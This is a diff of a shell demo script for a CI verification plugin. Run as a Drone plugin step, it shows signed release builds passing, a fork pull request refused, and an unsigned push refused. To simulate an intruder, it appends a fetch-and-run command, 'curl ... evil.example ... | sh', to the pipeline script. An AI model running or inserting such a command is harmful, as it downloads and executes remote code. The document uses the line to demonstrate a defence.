@@ -1,59 +1,116 @@
 #!/bin/sh
-# make demo: a trusted pipeline repository with signed commits on main, then
-# mainline deciding what may run. Everything happens in a scratch directory.
+# make demo: the plugin image running exactly as Drone's docker runner runs a
+# step (its environment variables, the Docker socket and a cache volume
+# mounted), against a local trusted pipeline repository whose main line is
+# signed. Shows a verified release run whose pipeline starts a sibling
+# container through the socket (as Dagger starts its engine), and a fork's
+# pull request refused before anything runs.
 set -eu
 root=$(cd "$(dirname "$0")/.." && pwd)
+cd "$root"
 BUILD=${BUILD:-build}
-case "$BUILD" in /*) ;; *) BUILD="$root/$BUILD" ;; esac
-mainline="$BUILD/mainline"
 work=$(mktemp -d "${TMPDIR:-/tmp}/mainline-demo.XXXXXX")
-trap 'rm -rf "$work"' EXIT
+cache=mainline-demo-cache
+workspace=mainline-demo-workspace
+cleanup() {
+	docker volume rm -f "$cache" "$workspace" >/dev/null 2>&1 || true
+	rm -rf "$work"
+}
+trap cleanup EXIT
+
+say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+
+say "Building the plugin image, a pipeline image and a test image (no registry needed)"
+scripts/dockerd.sh
+plugin_image=$(BUILD=$BUILD scripts/image.sh)
+scripts/test-image.sh mainline-test/busybox:1
+base=$(scripts/base-image.sh)
+mkdir -p "$work/pipeline-image"
+cp "$(command -v docker)" "$work/pipeline-image/docker"
+printf 'FROM %s\nCOPY docker /usr/local/bin/docker\n' "$base" >"$work/pipeline-image/Dockerfile"
+docker build -q -t mainline-demo/pipeline:1 "$work/pipeline-image" >"$work/build.log" 2>&1 ||
+	{ cat "$work/build.log" >&2; exit 1; }
+echo "plugin image $plugin_image, pipeline image mainline-demo/pipeline:1 (Debian + docker CLI)"
+
+say "A trusted pipeline repository; main is signed by the release team's SSH key"
 export HOME="$work/home" GIT_CONFIG_NOSYSTEM=1
 mkdir -p "$HOME"
 export GIT_AUTHOR_NAME="Release Team" GIT_AUTHOR_EMAIL="release@example.org"
 export GIT_COMMITTER_NAME="Release Team" GIT_COMMITTER_EMAIL="release@example.org"
 git config --global init.defaultBranch main
-
-say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
-run() { printf '$ %s\n' "$*"; "$@" || printf '(exit %d)\n' "$?"; }
-
-say "A trusted pipeline repository whose main line is signed with SSH keys"
 ssh-keygen -q -t ed25519 -N '' -C release -f "$work/release-key"
-ssh-keygen -q -t ed25519 -N '' -C intruder -f "$work/intruder-key"
-printf 'release@example.org namespaces="git" %s\n' "$(cut -d' ' -f1,2 "$work/release-key.pub")" \
-	>"$work/allowed_signers"
-cat "$work/allowed_signers"
+signers=$(printf 'release@example.org namespaces="git" %s' "$(cut -d' ' -f1,2 "$work/release-key.pub")")
 repo="$work/ci-pipelines"
 git init -q "$repo"
 git -C "$repo" config gpg.format ssh
 git -C "$repo" config user.signingkey "$work/release-key"
-printf '#!/bin/sh\necho "publishing release"\n' >"$repo/pipeline.sh"
-git -C "$repo" add pipeline.sh
-git -C "$repo" commit -q -S -m "pipeline: publish step"
-anchor=$(git -C "$repo" rev-parse HEAD)
-echo 'echo "signing artefacts"' >>"$repo/pipeline.sh"
-git -C "$repo" commit -q -S -am "pipeline: sign artefacts"
-git -C "$repo" log --format='%h %G? %s' main
+mkdir -p "$repo/ci"
+cat >"$repo/ci/publish.sh" <<'SH'
+#!/bin/sh
+# The release pipeline: what a Dagger program would do, in shell.
+set -e
+echo "pipeline: running verified code from $(pwd)"
+echo "pipeline: build $DRONE_BUILD_NUMBER of $DRONE_REPO, event $DRONE_BUILD_EVENT, tag ${DRONE_TAG:-none}"
+echo "pipeline: starting a sibling container through the mounted Docker socket (as Dagger starts its engine)"
+docker run --rm mainline-test/busybox:1 echo "sibling: hello from a container started by the pipeline"
+if [ -d "${DRONE_WORKSPACE:-/nonexistent}" ] && [ -w "$DRONE_WORKSPACE" ]; then
+	mkdir -p "$DRONE_WORKSPACE/dist"
+	echo "release ${DRONE_TAG:-snapshot} built by $(git rev-parse HEAD 2>/dev/null || echo pipeline)" \
+		>"$DRONE_WORKSPACE/dist/release.txt"
+	echo "pipeline: wrote dist/release.txt into the workspace for the next step"
+fi
+echo "pipeline: published"
+SH
+chmod +x "$repo/ci/publish.sh"
+git -C "$repo" add ci
+git -C "$repo" commit -q -S -m "ci: publish pipeline"
+printf '%s\n' "$signers" >"$work/allowed_signers"
+git -C "$repo" -c gpg.ssh.allowedSignersFile="$work/allowed_signers" log --format='%h %G? %s' main
 
-v() { run "$mainline" verify --source "$repo" --allowed-signers "$work/allowed_signers" \
-	--state "$work/state" "$@"; }
+# What Drone's docker runner does for a plugin step: DRONE_* variables, PLUGIN_*
+# settings, the workspace volume at /drone/src, here also the socket and a cache.
+step() {
+	docker run --rm \
+		-v /var/run/docker.sock:/var/run/docker.sock \
+		-v "$cache:/var/cache/mainline" \
+		-v "$workspace:/drone/src" -w /drone/src \
+		-v "$repo:/srv/ci-pipelines:ro" \
+		-e PLUGIN_SOURCE=/srv/ci-pipelines \
+		-e PLUGIN_ALLOWED_SIGNERS="$signers" \
+		-e PLUGIN_IMAGE=mainline-demo/pipeline:1 \
+		-e PLUGIN_COMMAND='["./ci/publish.sh"]' \
+		-e PLUGIN_DOCKER_SOCKET=true \
+		-e PLUGIN_AUDIT_FILE=/var/cache/mainline/audit.jsonl \
+		-e DRONE_REPO=acme/app -e DRONE_REPO_OWNER=acme -e DRONE_REPO_NAME=app \
+		-e DRONE_BUILD_NUMBER=17 -e DRONE_BUILD_LINK=https://drone.example/acme/app/17 \
+		-e DRONE_STEP_NAME=release -e DRONE_WORKSPACE=/drone/src \
+		-e DRONE_COMMIT_SHA=4f1c0de0000000000000000000000000000000aa \
+		"$@" "$plugin_image"
+}
 
-say "Verified: the signed tip of main"
-v --mode chain --anchor "$anchor"
+say "Tag build v1.0.0: verified, then the pipeline runs"
+printf '$ docker run ... -e DRONE_BUILD_EVENT=tag -e DRONE_TAG=v1.0.0 %s\n' "$plugin_image"
+set +e
+step -e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.0 -e DRONE_TAG=v1.0.0
+echo "(step exit code $?)"
 
-say "Refused: a commit pushed to main without a trusted signature"
+say "Pull request from a fork: refused before anything is fetched or run"
+printf '$ docker run ... -e DRONE_BUILD_EVENT=pull_request -e DRONE_COMMIT_REF=refs/pull/12/head %s\n' "$plugin_image"
+step -e DRONE_BUILD_EVENT=pull_request -e DRONE_COMMIT_REF=refs/pull/12/head \
+	-e DRONE_PULL_REQUEST=12 -e DRONE_SOURCE_BRANCH=fork/main -e DRONE_COMMIT_BRANCH=main
+echo "(step exit code $?)"
+
+say "Someone without the release key pushes to the pipeline repository's main"
+ssh-keygen -q -t ed25519 -N '' -C intruder -f "$work/intruder-key"
 git -C "$repo" config user.signingkey "$work/intruder-key"
-echo 'curl evil.example | sh' >>"$repo/pipeline.sh"
-git -C "$repo" commit -q -S -am "pipeline: small fix"
-v
+echo 'curl -s https://evil.example/x | sh' >>"$repo/ci/publish.sh"
+git -C "$repo" commit -q -S -am "ci: small fix"
+step -e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.1 -e DRONE_TAG=v1.0.1
+echo "(step exit code $?)"
 
-say "Refused: main force-pushed back to an older signed commit (rollback)"
-git -C "$repo" reset -q --hard "$anchor"
-v
-
-say "Refused: a commit from a side branch (a pull request's code)"
-git -C "$repo" checkout -q -b feature
-git -C "$repo" config user.signingkey "$work/release-key"
-echo 'echo "feature"' >>"$repo/pipeline.sh"
-git -C "$repo" commit -q -S -am "feature work"
-v --commit feature --json
+say "The audit trail of these runs (hash-chained JSONL in the cache volume)"
+docker run --rm -v "$cache:/var/cache/mainline" --entrypoint /usr/local/bin/mainline \
+	"$plugin_image" audit verify /var/cache/mainline/audit.jsonl
+docker run --rm -v "$cache:/var/cache/mainline" --entrypoint /bin/sh "$plugin_image" -c \
+	"cut -c1-160 /var/cache/mainline/audit.jsonl"
+set -e
